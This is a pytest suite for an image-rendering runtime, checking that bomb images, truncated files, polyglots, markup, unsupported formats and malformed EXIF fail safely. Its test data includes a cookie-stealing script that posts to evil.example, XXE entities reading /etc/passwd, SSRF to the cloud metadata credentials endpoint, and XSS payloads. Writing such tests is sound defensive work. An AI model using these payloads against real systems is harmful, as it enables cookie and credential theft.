"""Hostile and awkward uploads (issue 5): one malicious or broken file must never crash the runtime, hang, exhaust
memory, loop, or touch the original.

Every input is generated here (or in tests/images.py), deterministically, and rendered in a fresh interpreter fenced
by `sandbox.py`: an address-space limit and a wall-clock kill, so a crash or a runaway allocation fails one test
instead of the run. Each case expects one outcome, a typed `ImageError` subclass or a correct image, and every
outcome must also stay within what the issue allows a render: 2 s of wall-clock and CPU time, 256 MB resident, no
file or network I/O, the input bytes intact, and (for an image) output bytes freshly encoded, carrying nothing of the
input's metadata or payload.
"""

from __future__ import annotations

import io
import json
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from PIL import Image

if TYPE_CHECKING:
    from tests import images
    from tests.hostile import sandbox
    from tests.images import BLUE, GREY, RED, WHITE
else:
    import sandbox

    import images
    from images import BLUE, GREY, RED, WHITE

OK = "ok"
DECODE = "DecodeError"
UNSUPPORTED = "UnsupportedFormatError"
LIMIT = "LimitExceededError"

MiB = 1 << 20
# A small image whose metadata is hostile has no business costing more than the interpreter and a little slack.
SMALL_RSS = 64 * MiB

Factory = Callable[[], bytes]


def check(
    outcome: sandbox.Outcome,
    kind: str,
    message: str | None = None,
    *,
    max_rss: int = sandbox.MAX_RSS_BYTES,
    max_seconds: float = sandbox.MAX_RENDER_SECONDS,
) -> None:
    """The expected outcome, within the issue's bounds; for an image, a freshly encoded one."""
    assert outcome.kind == kind, str(outcome)
    if message is not None:
        assert re.search(message, outcome.message), str(outcome)
    assert outcome.seconds <= max_seconds, f"the render took {outcome.seconds:.2f} s: {outcome}"
    assert outcome.cpu_seconds <= max_seconds, f"the render used {outcome.cpu_seconds:.2f} s of CPU: {outcome}"
    assert outcome.peak_rss_bytes <= max_rss, f"peak RSS {outcome.peak_rss_bytes / MiB:.0f} MiB: {outcome}"
    assert outcome.io_calls == 0, f"the render made {outcome.io_calls} read/write system calls: {outcome}"
    assert outcome.input_intact, "the render changed the input bytes"
    if kind == OK:
        check_fresh(outcome)


def jpeg_segments(data: bytes) -> list[int]:
    """The markers from SOI to the first SOS."""
    assert data[:2] == b"\xff\xd8", data[:4]
    markers, at = [], 2
    while data[at + 1] != 0xDA:
        markers.append(data[at + 1])
        at += 2 + int.from_bytes(data[at + 2 : at + 4], "big")
    return markers


def check_fresh(outcome: sandbox.Outcome) -> None:
    """The output is an image we encoded: it decodes to the reported size and carries no metadata segment (where a
    copied EXIF, ICC, comment or payload would be)."""
    out, facts = outcome.output, outcome.facts
    im = images.decode(out)
    assert im.size == (facts["width"], facts["height"])
    if facts["format"] == "jpeg":
        assert im.format == "JPEG"
        metadata = [hex(m) for m in jpeg_segments(out) if 0xE1 <= m <= 0xEF or m == 0xFE]
        assert metadata == [], f"metadata segments in the output: {metadata}"
    else:
        assert im.format == "WEBP"
        assert not {b"EXIF", b"ICCP", b"XMP "} & {out[i : i + 4] for i in range(12, len(out) - 4)}


def expected_size(width: int, height: int, preset: str) -> tuple[int, int]:
    """The output size for a displayed `width`x`height` image: the product rules, restated (never upscale; cover
    crops to the box's shape, inside fits the whole picture)."""

    def at_least_one(v: float) -> int:
        return max(1, int(v + 0.5))

    if preset == "medium":
        scale = min(1280 / width, 1280 / height, 1.0)
        return at_least_one(width * scale), at_least_one(height * scale)
    bw, bh = 400, 300
    if width >= bw and height >= bh:
        return bw, bh
    return at_least_one(min(bw, width, height * bw / bh)), at_least_one(min(bh, height, width * bh / bw))


@cache
def arrow_jpeg(size: tuple[int, int] = (600, 400), progressive: bool = False) -> bytes:
    return images.jpeg(images.arrow_picture(size), progressive=progressive)


@cache
def arrow_png(size: tuple[int, int] = (600, 400)) -> bytes:
    return images.png(images.arrow_picture(size))


@cache
def arrow_webp(size: tuple[int, int] = (600, 400)) -> bytes:
    return images.webp(images.arrow_picture(size), lossless=False)


@cache
def arrow_gif(size: tuple[int, int] = (600, 400)) -> bytes:
    return images.gif([images.palette_image(size, [RED, BLUE, GREY], 0, 1, 2, 2)])


def flat(size: tuple[int, int], mode: str = "RGB", alpha: int = 255) -> Image.Image:
    """One colour, `size`: the cheapest way to a large image with a small file."""
    return Image.new(mode, size, 0 if mode == "P" else (10, 200, 30, alpha)[: len(mode)])


def _after_sos_header(data: bytes) -> int:
    sos = data.index(b"\xff\xda")
    return sos + 2 + int.from_bytes(data[sos + 2 : sos + 4], "big")


def _patched(data: bytes, at: int, value: bytes) -> bytes:
    return data[:at] + value + data[at + len(value) :]


def _flip(data: bytes, at: int) -> bytes:
    return _patched(data, at, bytes([data[at] ^ 0xFF]))


def _crc_offset(data: bytes, kind: bytes) -> int:
    at = data.index(kind)
    return at + 4 + int.from_bytes(data[at - 4 : at], "big")


# --- decompression bombs ----------------------------------------------------------------------------------------


@cache
def big_jpeg(subsampling: str, progressive: bool) -> bytes:
    # One flat colour: 7000x7000 (49 MP, under the default 50 MP limit) in a file of a few hundred KB.
    return images.jpeg(flat((7000, 7000)), subsampling=subsampling, progressive=progressive)  # type: ignore[arg-type]


def animated_webp(size: tuple[int, int]) -> bytes:
    frames = [Image.new("RGB", size, RED), Image.new("RGB", size, BLUE)]
    return images.encode(frames[0], "WEBP", save_all=True, append_images=frames[1:], lossless=True, duration=100)


BOMBS = [
    # Declared sizes refused from the header, before any allocation: a small resident set proves it.
    pytest.param(lambda: images.png_bomb(100_000, 100_000), LIMIT, "100000x100000", SMALL_RSS, id="png-100000x100000"),
    # A real zlib bomb: 300 KB of IDAT inflating to 300 MB. 10^8 pixels is over the 5*10^7 default.
    pytest.param(
        lambda: images.png_zlib_bomb(10_000, 10_000),
        LIMIT,
        "10000x10000 = 100000000 pixels",
        SMALL_RSS,
        id="png-zlib-10000x10000",
    ),
    pytest.param(
        lambda: images.jpeg_with_sof(arrow_jpeg(), 0xC0, size=(65_500, 65_500)),
        LIMIT,
        "65500x65500",
        SMALL_RSS,
        id="jpeg-65500x65500",
    ),
    pytest.param(
        lambda: images.jpeg_with_sof(arrow_jpeg(), 0xC0, size=(65_535, 65_535)),
        LIMIT,
        "65500 pixels",
        SMALL_RSS,
        id="jpeg-65535x65535",
    ),
    pytest.param(
        lambda: _patched(arrow_gif(), 6, struct.pack("<HH", 65_535, 65_535)),
        LIMIT,
        "65535x65535",
        SMALL_RSS,
        id="gif-screen-65535x65535",
    ),
    pytest.param(
        lambda: _patched(
            arrow_gif((50, 40)),
            arrow_gif((50, 40)).index(b"\x2c\0\0\0\0\x32\0\x28\0") + 5,
            struct.pack("<HH", 65_535, 65_535),
        ),
        LIMIT,
        "^GIF: the first frame is 65535x65535",
        SMALL_RSS,
        id="gif-frame-65535x65535",
    ),
    # The IDAT inflates to 2 GB for a 1000x1000 image: the decoder must stop at the declared size, not inflate on.
    pytest.param(
        lambda: images.png_zlib_bomb(1000, 1000, inflated=2_000_000_000), OK, None, SMALL_RSS, id="png-idat-2GB-for-1MP"
    ),
    # 49 MP, just under the pixel limit, each from a file of 2 KB to 1.3 MB: decoded within time and memory, or
    # refused as over the memory budget (see decode/mod.rs) — never over 256 MB.
    pytest.param(lambda: images.png_zlib_bomb(7000, 7000, 2), OK, None, None, id="png-zlib-7000x7000-rgb"),
    pytest.param(lambda: images.png_zlib_bomb(7000, 7000, 0), OK, None, None, id="png-zlib-7000x7000-grey"),
    pytest.param(
        lambda: images.png_zlib_bomb(
            7000, 7000, 3, chunks=[images.png_chunk(b"PLTE", bytes(RED)), images.png_chunk(b"tRNS", b"\xff")]
        ),
        OK,
        None,
        None,
        id="png-zlib-7000x7000-rgba-opaque",
    ),
    pytest.param(
        lambda: images.png_zlib_bomb(7000, 7000, 6),
        LIMIT,
        "with transparency would take 392 MB",
        None,
        id="png-zlib-7000x7000-rgba-transparent",
    ),
    pytest.param(
        lambda: images.png_zlib_bomb(7000, 7000, 4),
        LIMIT,
        "with transparency",
        None,
        id="png-zlib-7000x7000-grey-alpha",
    ),
    pytest.param(lambda: images.gif([flat((7000, 7000), "P")]), OK, None, None, id="gif-lzw-7000x7000"),
    pytest.param(lambda: images.webp(flat((7000, 7000)), lossless=False), OK, None, None, id="webp-lossy-7000x7000"),
    pytest.param(
        lambda: images.webp(flat((7000, 7000)), lossless=True),
        LIMIT,
        "^WebP: decoding 7000x7000 would take 343 MB",
        SMALL_RSS,
        id="webp-lossless-7000x7000",
    ),
    pytest.param(
        lambda: images.webp(flat((7000, 7000), "RGBA", alpha=100), lossless=False),
        LIMIT,
        "^WebP: decoding 7000x7000",
        SMALL_RSS,
        id="webp-lossy-alpha-7000x7000",
    ),
    # AVIF: the ispe box is checked before the AV1 decoder runs (whose own frame-size limit is ispe's area).
    pytest.param(
        lambda: _patched(
            images.encode(flat((64, 48)), "AVIF"),
            images.encode(flat((64, 48)), "AVIF").index(b"ispe") + 8,
            struct.pack(">II", 65_535, 65_535),
        ),
        LIMIT,
        "^image is 65535x65535",
        SMALL_RSS,
        id="avif-ispe-65535x65535",
    ),
    # Animated WebP: image-webp composes frames on a canvas of its own, ~11 bytes a pixel at its peak.
    pytest.param(lambda: animated_webp((4000, 4000)), OK, None, None, id="webp-animated-4000x4000"),
    pytest.param(
        lambda: animated_webp((5000, 5000)), LIMIT, "^WebP: decoding 5000x5000", SMALL_RSS, id="webp-animated-5000x5000"
    ),
    pytest.param(lambda: big_jpeg("4:2:0", False), OK, None, SMALL_RSS, id="jpeg-7000x7000-baseline"),
    # Progressive: libjpeg keeps every coefficient (6 bytes a pixel at 4:4:4, 3 at 4:2:0) until the last scan.
    pytest.param(lambda: big_jpeg("4:2:0", True), OK, None, None, id="jpeg-7000x7000-progressive-420"),
    pytest.param(
        lambda: big_jpeg("4:4:4", True),
        LIMIT,
        "^JPEG: decoding would exceed the memory limit",
        SMALL_RSS,
        id="jpeg-7000x7000-progressive-444",
    ),
]


@pytest.mark.parametrize(("factory", "kind", "message", "max_rss"), BOMBS)
def test_decompression_bomb(factory: Factory, kind: str, message: str | None, max_rss: int | None) -> None:
    outcome = sandbox.run(factory())
    check(outcome, kind, message, max_rss=max_rss or sandbox.MAX_RSS_BYTES)
    if kind == OK:
        source = (outcome.facts["source_width"], outcome.facts["source_height"])
        assert (outcome.facts["width"], outcome.facts["height"]) == expected_size(*source, "thumbnail")


# --- truncated files ----------------------------------------------------------------------------------------------


TRUNCATED = [
    *(
        pytest.param(
            lambda p=progressive, c=cut: c(arrow_jpeg(progressive=p)),
            DECODE,
            "^JPEG: Premature end",
            id=f"jpeg-{name}-{kind}",
        )
        for progressive, kind in ((False, "baseline"), (True, "progressive"))
        for name, cut in (
            ("half", lambda d: d[: len(d) // 2]),
            ("after-SOS", lambda d: d[: _after_sos_header(d)]),
            ("no-EOI", lambda d: d[:-2]),
        )
    ),
    pytest.param(
        lambda: big_jpeg("4:2:0", False)[: _after_sos_header(big_jpeg("4:2:0", False)) + 100],
        DECODE,
        "^JPEG: Premature end",
        id="jpeg-7000x7000-after-SOS",
    ),
    pytest.param(lambda: arrow_png()[: len(arrow_png()) // 2], DECODE, "^PNG: unexpected end of file", id="png-half"),
    pytest.param(lambda: arrow_png()[:-12], DECODE, "^PNG: unexpected end of file", id="png-no-IEND"),
    pytest.param(lambda: arrow_png()[:33], DECODE, "^PNG: unexpected end of file", id="png-header-only"),
    pytest.param(lambda: images.png_zlib_bomb(7000, 7000)[:70_000], DECODE, "^PNG: ", id="png-7000x7000-half"),
    pytest.param(lambda: arrow_webp()[: len(arrow_webp()) // 2], DECODE, "^WebP: ", id="webp-half"),
    pytest.param(lambda: arrow_gif()[: len(arrow_gif()) // 2], DECODE, "^GIF: ", id="gif-half"),
]


@pytest.mark.parametrize(("factory", "kind", "message"), TRUNCATED)
def test_truncated(factory: Factory, kind: str, message: str) -> None:
    check(sandbox.run(factory()), kind, message)


# --- empty, not an image, magic numbers only ----------------------------------------------------------------------


NOT_IMAGES = [
    pytest.param(b"", "upload.jpg", DECODE, r"^input is empty \(0 bytes\)$", id="zero-bytes"),
    pytest.param(b"\0" * 4096, "upload.jpg", UNSUPPORTED, "starts with 00 00 00 00", id="4096-nul-bytes"),
    pytest.param(
        b"Hello, this is a listing description.\n",
        "photo.jpg",
        UNSUPPORTED,
        "starts with 48 65 6c 6c",
        id="text-as-jpg",
    ),
    pytest.param(
        b"<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>",
        "photo.png",
        UNSUPPORTED,
        "^HTML",
        id="html-as-png",
    ),
    pytest.param(b'{"photo": "front.jpg"}', "photo.gif", UNSUPPORTED, "not a supported image", id="json-as-gif"),
    pytest.param(
        b"\x00" + random.Random(5).randbytes(100_000),
        "photo.webp",
        UNSUPPORTED,
        "not a supported image",
        id="random-as-webp",
    ),
    pytest.param(b"\xff\xd8\xff", "photo.jpg", DECODE, "^JPEG: ", id="jpeg-magic-only"),
    pytest.param(b"\xff\xd8\xff\xe0", "photo.jpg", DECODE, "^JPEG: ", id="jpeg-magic-and-app0"),
    pytest.param(b"\xff\xd8", "photo.jpg", UNSUPPORTED, "not a supported image", id="half-jpeg-magic"),
    pytest.param(images.PNG_SIGNATURE, "photo.png", DECODE, "^PNG: ", id="png-signature-only"),
    pytest.param(b"RIFF\0\0\0\0WEBP", "photo.webp", DECODE, "^WebP: ", id="webp-riff-only"),
    pytest.param(b"GIF89a", "photo.gif", DECODE, "^GIF: ", id="gif-magic-only"),
]


@pytest.mark.parametrize(("data", "filename", "kind", "message"), NOT_IMAGES)
def test_not_an_image(data: bytes, filename: str, kind: str, message: str) -> None:
    check(sandbox.run(data, filename=filename), kind, message, max_rss=SMALL_RSS)


def test_sniffed_by_bytes_not_by_name() -> None:
    # A JPEG called .png and a PNG called .jpg: each is read as what its bytes are.
    jpeg_named_png = sandbox.run(arrow_jpeg(), filename="photo.png")
    check(jpeg_named_png, OK)
    assert jpeg_named_png.facts["source_format"] == "jpeg"
    png_named_jpg = sandbox.run(arrow_png(), filename="photo.jpg")
    check(png_named_jpg, OK)
    assert png_named_jpg.facts["source_format"] == "png"


# --- polyglots ----------------------------------------------------------------------------------------------------

SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"


def jpeg_then_zip() -> bytes:
    buf = io.BytesIO(arrow_jpeg())
    buf.seek(0, io.SEEK_END)
    # Appending a ZIP to another file is what zipfile's "a" mode does to a non-ZIP: a valid JPEG and a valid ZIP.
    with zipfile.ZipFile(buf, "a") as z:
        z.writestr("payload.html", SCRIPT)
    data = buf.getvalue()
    assert zipfile.is_zipfile(io.BytesIO(data))
    return data


POLYGLOTS = [
    pytest.param(jpeg_then_zip, "jpeg", [b"PK\x03\x04", b"payload.html", b"<script"], id="jpeg+zip"),
    pytest.param(
        lambda: arrow_png() + b"<html><body>" + SCRIPT + b"</body></html>", "png", [b"<script", b"<html"], id="png+html"
    ),
    pytest.param(
        lambda: images.png_with_chunks(arrow_png(), [images.png_chunk(b"tEXt", b"Comment\0<html>" + SCRIPT)]),
        "png",
        [b"<script", b"Comment"],
        id="png-html-in-tEXt",
    ),
    pytest.param(lambda: images.gif_js_polyglot(b"alert(document.domain);"), "gif", [b"alert", b"/*"], id="gif-js"),
    pytest.param(
        lambda: images.encode(images.arrow_picture((600, 400)), "JPEG", comment=SCRIPT),
        "jpeg",
        [b"<script"],
        id="jpeg-script-in-COM",
    ),
    pytest.param(
        lambda: images.jpeg_with_segments(
            arrow_jpeg(),
            [
                images.jpeg_segment(
                    0xE1,
                    b"http://ns.adobe.com/xap/1.0/\0"
                    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
                    b'<!ENTITY ssrf SYSTEM "http://169.254.169.254/latest/meta-data/">]>'
                    b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>&xxe;&ssrf;</x:xmpmeta>",
                )
            ],
        ),
        "jpeg",
        [b"ENTITY", b"xmpmeta"],
        id="jpeg-xmp-with-xxe",
    ),
    pytest.param(lambda: arrow_webp() + b"PK\x03\x04" + SCRIPT, "webp", [b"PK\x03\x04", b"<script"], id="webp+trailer"),
]


@pytest.mark.parametrize("format", ["jpeg", "webp"])
@pytest.mark.parametrize(("factory", "source_format", "payload"), POLYGLOTS)
def test_polyglot_renders_as_the_image_it_starts_as(
    factory: Factory, source_format: str, payload: list[bytes], format: str
) -> None:
    data = factory()
    outcome = sandbox.run(data, format=format)
    check(outcome, OK)
    assert outcome.facts["source_format"] == source_format
    assert outcome.output != data
    for needle in payload:
        assert needle in data
        assert needle not in outcome.output, f"{needle!r} was carried into the output"


# --- markup: refused by magic bytes, never parsed -------------------------------------------------------------------

XXE = b'<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
SSRF = b'<image href="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width="10" height="10"/>'

MARKUP = [
    pytest.param(b"<svg xmlns='http://www.w3.org/2000/svg'>" + SSRF + b"</svg>", "SVG/XML", id="svg-ssrf"),
    pytest.param(b'<?xml version="1.0"?>\n' + XXE + b"<svg>&xxe;</svg>", "SVG/XML", id="svg-xxe"),
    pytest.param(b"\n\t  <svg onload='alert(1)'/>", "SVG/XML", id="svg-leading-whitespace"),
    pytest.param(
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b'<!ENTITY lol2 "&lol;&lol;&lol;">' * 10
        + b"]><lolz>&lol2;</lolz>",
        "SVG/XML",
        id="xml-billion-laughs",
    ),
    pytest.param(b"<!doctype html><html><script>alert(1)</script></html>", "HTML", id="html"),
    pytest.param(b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', "HTML", id="xhtml"),
    pytest.param(b"\xef\xbb\xbf<?xml version='1.0'?><svg/>", "not a supported image", id="xml-with-utf8-bom"),
    pytest.param("<?xml version='1.0'?><svg/>".encode("utf-16"), "not a supported image", id="xml-utf16"),
    pytest.param(b"\x1f\x8b\x08\x00" + zlib.compress(b"<svg/>"), "not a supported image", id="svgz"),
]


@pytest.mark.parametrize(("data", "named"), MARKUP)
def test_markup_is_refused_unparsed(data: bytes, named: str) -> None:
    outcome = sandbox.run(data, filename="photo.svg")
    # Sniffed from the first bytes: refused in well under a millisecond, with no file or network access (check()
    # asserts no read/write system call at all happened during the render).
    check(outcome, UNSUPPORTED, re.escape(named), max_rss=SMALL_RSS, max_seconds=0.1)


# --- formats outside the allow-list ---------------------------------------------------------------------------------


def pillow(fmt: str, mode: str = "RGB", **params: Any) -> Factory:
    return lambda: images.encode(images.arrow_picture((64, 48)).convert(mode), fmt, **params)


OTHER_FORMATS = [
    pytest.param(pillow("TIFF"), "^TIFF input is not supported$", id="tiff"),
    pytest.param(pillow("TIFF", compression="tiff_lzw"), "^TIFF", id="tiff-lzw"),
    pytest.param(pillow("BMP"), "^BMP input is not supported$", id="bmp"),
    pytest.param(pillow("ICO"), "^ICO input is not supported$", id="ico"),
    pytest.param(pillow("PDF"), "^PDF input is not supported$", id="pdf"),
    pytest.param(lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 64, "^HEIF/HEIC input", id="heic"),
    pytest.param(lambda: b"\0\0\0\x0cJXL \r\n\x87\n" + b"\0" * 64, "^JPEG XL", id="jxl-container"),
    pytest.param(lambda: b"\xff\x0a" + b"\0" * 64, "^JPEG XL", id="jxl-codestream"),
    pytest.param(lambda: b"8BPS\0\x01" + b"\0" * 64, "^PSD", id="psd"),
    pytest.param(pillow("JPEG2000"), "not a supported image", id="jpeg2000-codestream"),
    pytest.param(pillow("JPEG2000", no_jp2=False), "not a supported image", id="jp2"),
    pytest.param(pillow("PPM"), "not a supported image", id="ppm"),
    pytest.param(pillow("PCX"), "not a supported image", id="pcx"),
    pytest.param(pillow("TGA"), "not a supported image", id="tga"),
    pytest.param(pillow("QOI"), "not a supported image", id="qoi"),
    pytest.param(pillow("SGI"), "not a supported image", id="sgi"),
    pytest.param(pillow("DDS", "RGBA"), "not a supported image", id="dds"),
    pytest.param(pillow("EPS"), "not a supported image", id="eps"),
    pytest.param(pillow("ICNS"), "not a supported image", id="icns"),
]


@pytest.mark.parametrize(("factory", "message"), OTHER_FORMATS)
def test_format_outside_the_allow_list_is_unsupported(factory: Factory, message: str) -> None:
    check(sandbox.run(factory(), filename="photo.jpg"), UNSUPPORTED, message, max_rss=SMALL_RSS, max_seconds=0.1)


# --- JPEG variants libjpeg was built without ---------------------------------------------------------------------


JPEG_VARIANTS = [
    # SOF1 is extended sequential Huffman: with 8-bit samples it is an ordinary JPEG and decodes.
    pytest.param(0xC1, 8, OK, None, id="sof1-8-bit"),
    pytest.param(0xC1, 12, UNSUPPORTED, "^JPEG: 12-bit samples are not supported", id="sof1-12-bit"),
    pytest.param(0xC0, 12, UNSUPPORTED, "^JPEG: 12-bit samples are not supported", id="sof0-12-bit"),
    pytest.param(0xC1, 16, UNSUPPORTED, "^JPEG: 16-bit samples are not supported", id="sof1-16-bit"),
    pytest.param(0xC3, 8, UNSUPPORTED, "^JPEG: lossless JPEG is not supported", id="sof3-lossless"),
    pytest.param(0xC9, 8, UNSUPPORTED, "^JPEG: arithmetic-coded JPEG is not supported$", id="sof9-arithmetic"),
    pytest.param(
        0xCA, 8, UNSUPPORTED, "^JPEG: arithmetic-coded JPEG is not supported$", id="sof10-arithmetic-progressive"
    ),
    pytest.param(
        0xCB, 8, UNSUPPORTED, "^JPEG: arithmetic-coded lossless JPEG is not supported", id="sof11-arithmetic-lossless"
    ),
    pytest.param(0xC5, 8, UNSUPPORTED, "^JPEG: hierarchical JPEG is not supported", id="sof5-hierarchical"),
    pytest.param(0xCD, 8, UNSUPPORTED, "^JPEG: arithmetic-coded hierarchical JPEG", id="sof13-arithmetic-hierarchical"),
    # SOF55 opens a JPEG-LS frame, another codec behind the same FF D8 magic.
    pytest.param(0xF7, 8, UNSUPPORTED, "^JPEG: JPEG-LS is not supported$", id="jpeg-ls"),
]


@pytest.mark.parametrize(("marker", "precision", "kind", "message"), JPEG_VARIANTS)
def test_jpeg_variant(marker: int, precision: int, kind: str, message: str | None) -> None:
    data = images.jpeg_with_sof(arrow_jpeg(), marker, precision=precision)
    check(sandbox.run(data), kind, message, max_rss=SMALL_RSS)


# --- progressive JPEG with thousands of scans ---------------------------------------------------------------------


SCANS = [
    # 883 valid scans over 49 MP (one component): each costs a few bytes and a pass over 765 000 blocks. Without
    # a scan limit this took ~12 s of CPU; the limit for an image that size is 52 scans.
    pytest.param(
        lambda: images.progressive_scan_bomb(7000, 7000, 1),
        LIMIT,
        "^JPEG: more than 52 progressive scans",
        id="883-scans-7000x7000-grey",
    ),
    # The largest 4:4:4 colour image whose coefficients fit the memory budget (223 MB): the floor of 32 scans.
    pytest.param(
        lambda: images.progressive_scan_bomb(6100, 6100, 3),
        LIMIT,
        "^JPEG: more than 32 progressive scans",
        id="2647-scans-6100x6100-colour",
    ),
    pytest.param(
        lambda: images.progressive_scan_bomb(2000, 2000, 3),
        LIMIT,
        "^JPEG: more than 100 progressive scans",
        id="2647-scans-2000x2000-colour",
    ),
    # The boundary at 2000x2000, where the limit is 100: exactly 100 scans is a (flat grey) image, 101 is refused.
    pytest.param(lambda: images.progressive_scan_bomb(2000, 2000, 3, scans=100), OK, None, id="100-scans"),
    pytest.param(
        lambda: images.progressive_scan_bomb(2000, 2000, 3, scans=101),
        LIMIT,
        "^JPEG: more than 100 progressive scans",
        id="101-scans",
    ),
]


@pytest.mark.parametrize(("factory", "kind", "message"), SCANS)
def test_progressive_scans_are_cpu_bounded(factory: Factory, kind: str, message: str | None) -> None:
    outcome = sandbox.run(factory())
    check(outcome, kind, message)
    if kind == OK:
        assert images.close(images.mean_colour(images.decode(outcome.output)), (128, 128, 128), 2)


# --- zero-sized sides -------------------------------------------------------------------------------------------


ZERO_SIDES = [
    pytest.param(
        lambda: images.jpeg_with_sof(arrow_jpeg(), 0xC0, size=(600, 0)),
        DECODE,
        "^JPEG: Empty JPEG image",
        id="jpeg-height-0",
    ),
    pytest.param(
        lambda: images.jpeg_with_sof(arrow_jpeg(), 0xC0, size=(0, 400)),
        DECODE,
        "^JPEG: Empty JPEG image",
        id="jpeg-width-0",
    ),
    pytest.param(lambda: images.raw_png(0, 0, b"", bit_depth=8, colour_type=2), DECODE, "^PNG: ", id="png-0x0"),
    pytest.param(lambda: images.png_zlib_bomb(600, 0), DECODE, "^PNG: ", id="png-height-0"),
    pytest.param(lambda: _patched(arrow_gif(), 8, b"\0\0"), DECODE, "size of 600x0", id="gif-screen-height-0"),
]


@pytest.mark.parametrize(("factory", "kind", "message"), ZERO_SIDES)
def test_zero_sized_side(factory: Factory, kind: str, message: str) -> None:
    check(sandbox.run(factory()), kind, message, max_rss=SMALL_RSS)


# --- PNG with bad CRCs ----------------------------------------------------------------------------------------------


@cache
def palette_png() -> bytes:
    return images.png(images.palette_image((600, 400), [RED, BLUE, GREY], 0, 1, 2, 2))


@cache
def png_with_gama() -> bytes:
    return images.png_with_chunks(arrow_png(), [images.png_chunk(b"gAMA", struct.pack(">I", 45455))])


BAD_CRC = [
    pytest.param(lambda: _flip(arrow_png(), 29), DECODE, "^PNG: CRC error", id="IHDR"),
    pytest.param(
        lambda: _flip(palette_png(), _crc_offset(palette_png(), b"PLTE")), DECODE, "^PNG: CRC error", id="PLTE"
    ),
    pytest.param(lambda: _flip(arrow_png(), _crc_offset(arrow_png(), b"IDAT")), DECODE, "^PNG: CRC error", id="IDAT"),
    pytest.param(lambda: _flip(arrow_png(), len(arrow_png()) - 1), DECODE, "^PNG: CRC error", id="IEND"),
    # An ancillary chunk that fails its CRC is skipped (as libpng does): the pixels are intact.
    pytest.param(lambda: _flip(png_with_gama(), _crc_offset(png_with_gama(), b"gAMA")), OK, None, id="ancillary-gAMA"),
]


@pytest.mark.parametrize(("factory", "kind", "message"), BAD_CRC)
def test_png_with_a_bad_crc(factory: Factory, kind: str, message: str | None) -> None:
    check(sandbox.run(factory()), kind, message, max_rss=SMALL_RSS)


# --- animations ---------------------------------------------------------------------------------------------------


def red_then_blue(count: int, size: tuple[int, int]) -> bytes:
    first = images.palette_image(size, [RED, BLUE], 0, 0, 0, 0)
    later = images.palette_image(size, [RED, BLUE], 1, 1, 1, 1)
    return images.gif_frames(first, later, count)


def apng_red_then_alternating(count: int, size: tuple[int, int]) -> bytes:
    frames = [Image.new("RGB", size, RED)] + [
        Image.new("RGB", size, BLUE if i % 2 else WHITE) for i in range(count - 1)
    ]
    return images.encode(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=40)


ANIMATIONS = [
    # 500 frames of 3 MP: decoding them all would be 1.5 G pixels of LZW, seconds of CPU. Only the first is read.
    pytest.param(lambda: red_then_blue(500, (2000, 1500)), id="gif-500-frames"),
    # 200 000 comment blocks before the first frame: stepped over, not stored.
    pytest.param(lambda: images.gif_with_comments(red_then_blue(2, (600, 400)), 200_000), id="gif-200000-comments"),
    pytest.param(lambda: apng_red_then_alternating(150, (1200, 900)), id="apng-150-frames"),
]


@pytest.mark.parametrize("factory", ANIMATIONS)
def test_animation_renders_only_its_first_frame(factory: Factory) -> None:
    outcome = sandbox.run(factory(), "medium")
    check(outcome, OK)
    assert images.close(images.mean_colour(images.decode(outcome.output)), RED, 12)


# --- extreme aspect ratios ----------------------------------------------------------------------------------------


def stripe(fmt: str, size: tuple[int, int]) -> Factory:
    def make() -> bytes:
        im = Image.new("RGB", size, RED)
        if fmt == "GIF":
            return images.gif([im.convert("P")])
        if fmt == "WEBP":
            return images.webp(im, lossless=True)
        return images.encode(im, fmt)

    return make


ASPECTS = [
    pytest.param(stripe(fmt, size), size, id=f"{fmt.lower()}-{size[0]}x{size[1]}")
    for fmt, sizes in (
        ("JPEG", [(1, 20_000), (20_000, 1), (65_500, 2), (2, 65_500)]),
        ("PNG", [(1, 20_000), (20_000, 1), (65_500, 2), (2, 65_500)]),
        ("GIF", [(1, 20_000), (20_000, 1), (65_500, 2), (2, 65_500)]),
        ("WEBP", [(1, 16_383), (16_383, 1), (16_383, 2)]),
    )
    for size in sizes
]


@pytest.mark.parametrize("preset", ["thumbnail", "medium"])
@pytest.mark.parametrize(("factory", "size"), ASPECTS)
def test_extreme_aspect_ratio(factory: Factory, size: tuple[int, int], preset: str) -> None:
    outcome = sandbox.run(factory(), preset)
    check(outcome, OK, max_rss=SMALL_RSS)
    assert (outcome.facts["width"], outcome.facts["height"]) == expected_size(*size, preset)


# --- malformed EXIF -----------------------------------------------------------------------------------------------

ORIENTATION, MAKE, EXIF_IFD, SHORT, LONG, ASCII = 0x0112, 0x010F, 0x8769, 3, 4, 2


def _be(block: bytes) -> bytes:
    """A little-endian TIFF block re-labelled big-endian: every offset and count now reads as something else."""
    return b"MM\0*" + block[4:]


MALFORMED_EXIF = {
    # IFD0's next-IFD offset points back at IFD0; a reader that follows the chain never ends.
    "ifd0-loops-to-itself": images.exif_block(images.tiff_ifd([(MAKE, ASCII, 4, 0)], next_ifd=8)),
    # The EXIF sub-IFD pointer points at IFD0, which points at the sub-IFD...
    "exif-ifd-loops-to-ifd0": images.exif_block(images.tiff_ifd([(EXIF_IFD, LONG, 1, 8)], next_ifd=8)),
    "ifd0-offset-out-of-bounds": b"II*\0" + struct.pack("<I", 0xFFFF_FFF0) + b"\0" * 16,
    "ifd0-offset-2GB": b"II*\0" + struct.pack("<I", 0x8000_0000) + b"\0" * 16,
    # 65535 entries declared, one present.
    "entry-count-65535": images.exif_block(images.tiff_ifd([(MAKE, ASCII, 4, 0)]), entry_count=0xFFFF),
    # The orientation tag itself with absurd counts, types and values: none of them may be read as a rotation.
    "orientation-count-4G": images.exif_block(images.tiff_ifd([(ORIENTATION, SHORT, 0xFFFF_FFFF, 6)])),
    "orientation-as-LONG": images.exif_block(images.tiff_ifd([(ORIENTATION, LONG, 1, 6)])),
